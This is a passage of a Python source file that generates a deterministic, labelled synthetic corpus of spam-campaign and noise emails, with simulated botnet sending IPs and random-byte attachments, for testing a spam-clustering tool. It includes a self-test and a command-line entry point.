        paras = [f"Hi {r['first']},", paragraph(rng, 1, 3), paragraph(rng, 1, 2),
                 rng.choice(["Thanks,", "Cheers,", "Best,"]) + "\n" + name.split(" ")[0]]
    else:               # a notification-style mail
        subject = f"{rng.choice(['Your', 'New', 'Updated'])} {topic} {rng.choice(['notification', 'summary', 'receipt'])}"
        paras = [paragraph(rng, 2, 3), f"Reference: {letters(rng, 3)}{digits(rng, 6)}", paragraph(rng, 1, 2)]
    text = "\n\n".join(paras) + "\n"
    parts = []
    if style in (1, 3) and rng.random() < 0.6:
        if rng.random() < 0.5:
            cte, payload = qp_text(text)
            parts.append(("text/plain; charset=\"utf-8\"", cte, payload))
        html = "<html><body>\n" + "".join(f"<p>{p}</p>\n" for p in paras) + "</body></html>\n"
        cte, payload = qp_text(html)
        parts.append(("text/html; charset=\"utf-8\"", cte, payload))
    else:
        cte, payload = qp_text(text)
        parts.append(("text/plain; charset=\"utf-8\"", cte, payload))
    attachment = None
    if style == 2 and rng.random() < 0.15:
        data = b"%PDF-1.4\n" + bytes(rng.getrandbits(8) for _ in range(rng.randint(800, 3000))) + b"\n%%EOF\n"
        attachment = (f"{rng.choice(NOUN)}_{digits(rng, 3)}.pdf", "application/pdf", data)
    nets = [rng.choice(BOTNET_NETS)] if rng.random() < 0.5 else [(rng.randint(11, 223), rng.randint(0, 255))]
    ip = sending_ip(rng, nets)
    helo = helo_for(rng, rng.randrange(4), ip) if rng.random() < 0.5 else f"mail.{domain}"
    tz = dt.timezone(dt.timedelta(minutes=rng.choice([-300, 0, 60, 120, 330])))
    headers = received_chain(rng, None, ip, helo, r["email"], when, domain)
    headers += [f"Date: {rfc2822_date(when.astimezone(tz))}", fold("From", f"\"{name}\" <{from_addr}>"),
                f"To: {r['email']}", fold("Subject", subject),
                f"Message-ID: {message_id(rng, rng.randrange(4), domain)}"]
    if rng.random() < 0.4:
        headers.append(f"X-Mailer: {rng.choice(X_MAILERS)}")
    return assemble(rng, headers, parts, attachment)


# --- the corpus ------------------------------------------------------------------------------

@dataclass
class Generated:
    name: str       # NNNNNN.eml
    label: str      # c001... or noise-000123
    raw: bytes

    @property
    def sha256(self) -> str:
        return hashlib.sha256(self.raw).hexdigest()


@dataclass
class Corpus:
    messages: list[Generated]
    campaigns: dict[str, Campaign]   # label -> spec (for describing clusters in reports)


WINDOW_START = dt.datetime(2026, 11, 2, tzinfo=dt.timezone.utc)
WINDOW = dt.timedelta(days=14)


def generate(campaigns: int = 30, per_campaign: tuple[int, int] = (5, 60), noise: int = 300,
             seed: int = 1) -> Corpus:
    """The whole labelled corpus in memory, deterministic per arguments."""
    rng = random.Random(seed)
    used: set = set()
    specs = {}
    timed: list[tuple[dt.datetime, int, str]] = []
    lo, hi = per_campaign
    order = 0
    for i in range(campaigns):
        c = make_campaign(rng, i, rng.randint(lo, hi), WINDOW_START, WINDOW, used)
        specs[c.label] = c
        span = int(c.duration.total_seconds())
        for _ in range(c.size):
            timed.append((c.start + dt.timedelta(seconds=rng.randrange(span)), order, c.label))
            order += 1
    for k in range(noise):
        when = WINDOW_START + dt.timedelta(seconds=rng.randrange(int(WINDOW.total_seconds())))
        timed.append((when, order, f"noise-{k + 1:06d}"))
        order += 1
    timed.sort()
    out = []
    for n, (when, _, label) in enumerate(timed, start=1):
        if label.startswith("noise-"):
            raw = noise_message(rng, when, used)
        else:
            raw = campaign_message(rng, specs[label], when)
        out.append(Generated(f"{n:06d}.eml", label, raw))
    return Corpus(out, specs)


def write(outdir: str, corpus: Corpus) -> None:
    os.makedirs(outdir, exist_ok=True)
    for m in corpus.messages:
        with open(os.path.join(outdir, m.name), "wb") as f:
            f.write(m.raw)
    with open(os.path.join(outdir, "labels.csv"), "w", newline="") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(["file", "label"])
        for m in corpus.messages:
            w.writerow([m.name, m.label])


def parse_range(text: str) -> tuple[int, int]:
    lo, _, hi = text.partition("..")
    lo_i, hi_i = int(lo), int(hi or lo)
    if not 1 <= lo_i <= hi_i:
        raise argparse.ArgumentTypeError(f"bad range {text!r}: want A..B with 1 <= A <= B")
    return lo_i, hi_i


# --- self-test -------------------------------------------------------------------------------

def self_test() -> None:
    """Checks the generator's own promises (not spamhattan): determinism, CRLF, parseable MIME,
    valid zips, label shape, distinct files, speed."""
    import email
    import email.policy
    t0 = time.monotonic()
    a = generate(12, (5, 30), 150, seed=7)
    elapsed = time.monotonic() - t0
    b = generate(12, (5, 30), 150, seed=7)
    c = generate(12, (5, 30), 150, seed=8)
    assert [m.raw for m in a.messages] == [m.raw for m in b.messages], "same seed must give same bytes"
    assert [m.raw for m in a.messages] != [m.raw for m in c.messages], "another seed must differ"
    labels = [m.label for m in a.messages]
    noise = [x for x in labels if x.startswith("noise-")]
    assert len(noise) == 150 and len(set(noise)) == 150, "one distinct label per noise message"
    sizes = {x: labels.count(x) for x in set(labels) if x.startswith("c")}
    assert len(sizes) == 12 and all(5 <= s <= 30 for s in sizes.values()), sizes
    assert len({m.sha256 for m in a.messages}) == len(a.messages), "every message must be unique"
    assert labels[:40] != sorted(labels[:40]), "campaigns must interleave"
    kinds_with_att = 0
    for m in a.messages:
        assert b"\n" not in m.raw.replace(b"\r\n", b""), f"bare LF in {m.name}"
        assert all(len(line) <= 998 for line in m.raw.split(b"\r\n")), f"long line in {m.name}"
        msg = email.message_from_bytes(m.raw, policy=email.policy.default)
        assert not msg.defects, (m.name, msg.defects)
        assert msg["Received"] and msg["Date"] and msg["Message-ID"] and msg["From"] and msg["To"]
        assert msg["To"].addresses[0].domain in TRAP_DOMAINS
        for part in msg.walk():
            assert not part.defects, (m.name, part.defects)
            if part.get_filename():
                data = part.get_payload(decode=True)
                kinds_with_att += 1
                if part.get_filename().endswith(".zip"):
                    with zipfile.ZipFile(io.BytesIO(data)) as z:
                        assert z.testzip() is None and len(z.namelist()) == 1
    assert kinds_with_att > 0, "some campaigns must carry attachments"
    # The sending IP (first hop) comes from the campaign's botnet /16s.
    for m in a.messages:
        if m.label.startswith("c"):
            hop = email.message_from_bytes(m.raw, policy=email.policy.compat32)["Received"]
            ip = re.search(r"\[([0-9.]+)\]\)\s+by", hop).group(1)
            first_two = tuple(int(x) for x in ip.split(".")[:2])
            assert first_two in a.campaigns[m.label].nets, (m.name, ip)
    # Polymorphic attachments: same campaign, same structure, different bytes.
    by_label: dict[str, list[bytes]] = {}
    for m in a.messages:
        msg = email.message_from_bytes(m.raw, policy=email.policy.default)
        for part in msg.walk():
            if part.get_filename() and not m.label.startswith("noise"):
                by_label.setdefault(m.label, []).append(part.get_payload(decode=True))
    for label, blobs in by_label.items():
        assert len(set(blobs)) == len(blobs), f"{label}: attachments must differ per recipient"
    t0 = time.monotonic()
    big = generate(100, (50, 150), 0, seed=3)
    big_elapsed = time.monotonic() - t0
    print(f"self-test OK: {len(a.messages)} messages in {elapsed:.2f}s; "
          f"{len(big.messages)} messages in {big_elapsed:.2f}s")


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("outdir", nargs="?")
    ap.add_argument("--campaigns", type=int, default=30)
    ap.add_argument("--per-campaign", type=parse_range, default=(5, 60), metavar="A..B")
    ap.add_argument("--noise", type=int, default=300)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--self-test", action="store_true", help="check the generator itself and exit")
    args = ap.parse_args(argv)
    if args.self_test:
        self_test()
        return 0
    if not args.outdir:
        ap.error("OUTDIR is required")
    if os.path.isdir(args.outdir) and os.listdir(args.outdir):
        ap.error(f"{args.outdir} is not empty: labels would not match the files")
    t0 = time.monotonic()
    corpus = generate(args.campaigns, args.per_campaign, args.noise, args.seed)
    write(args.outdir, corpus)
    print(f"wrote {len(corpus.messages)} messages ({args.campaigns} campaigns, {args.noise} noise) "
          f"to {args.outdir} in {time.monotonic() - t0:.1f}s", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
